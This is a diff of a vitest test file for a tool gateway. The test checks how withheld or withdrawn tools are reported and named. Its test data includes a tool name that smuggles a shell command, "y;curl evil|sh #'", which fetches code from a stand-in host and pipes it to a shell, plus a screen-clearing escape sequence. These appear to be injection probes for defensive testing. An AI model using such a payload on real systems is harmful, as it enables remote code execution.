@@ -1,18 +1,27 @@
 import { expect, it } from 'vitest';
+import { defineTool, offerOf } from '../../../../../test/kit/offer.ts';
+import { sha256 } from '../../../../../test/kit/sha256.ts';
+import { createCatalog } from '../catalog/catalog.ts';
 import { readMembers } from '../wire/members.ts';
 import { findWithdrawn } from './withdrawn.ts';
 
+const catalog = createCatalog(sha256);
+catalog.configure([
+  { name: 'git', prefix: 'g' },
+  { name: 'web', prefix: 'web' },
+]);
+catalog.put('git', offerOf({ withheld: [defineTool({ name: 'push' }), defineTool({ name: 'a.b' })] }));
+const FETCH_AND_TRICKS = ['fetch', "y;curl evil|sh #'", '\u001b[2J'];
+catalog.put('web', offerOf({ withheld: FETCH_AND_TRICKS.map((name) => defineTool({ name })) }));
 const parts = {
-  held: () => [
-    { server: 'git', tool: 'push', why: 'changed' as const },
-    { server: 'web', tool: 'fetch', why: 'new' as const },
-    { server: 'web', tool: "y;curl evil|sh #'", why: 'new' as const },
-    { server: 'web', tool: '\u001b[2J', why: 'new' as const },
-  ],
-  servers: () => [
-    { name: 'git', prefix: 'g' },
-    { name: 'web', prefix: 'web' },
-  ],
+  catalog,
+  held: (server: string) =>
+    server === 'git'
+      ? [
+          { tool: 'push', why: 'changed' as const },
+          { tool: 'a.b', why: 'changed' as const },
+        ]
+      : FETCH_AND_TRICKS.map((tool) => ({ tool, why: 'new' as const })),
 };
 const find = (name: string, view?: string, scopes = {}, method = 'tools/call') =>
   findWithdrawn(parts, {
@@ -29,6 +38,7 @@ it('whoever calls a tool that waits for a person hears that, under the name that
     hint: expect.stringContaining('pincer accept git.push') as string,
   });
   expect(find('push', 'git')?.code).toBe('TOOL_WITHDRAWN');
+  expect(find(`g__a_b_${sha256('git\0a.b').slice(0, 8)}`)?.message).toContain('git.a.b has changed');
   expect(find('web__fetch')?.message).toContain('not been accepted yet');
 });
 
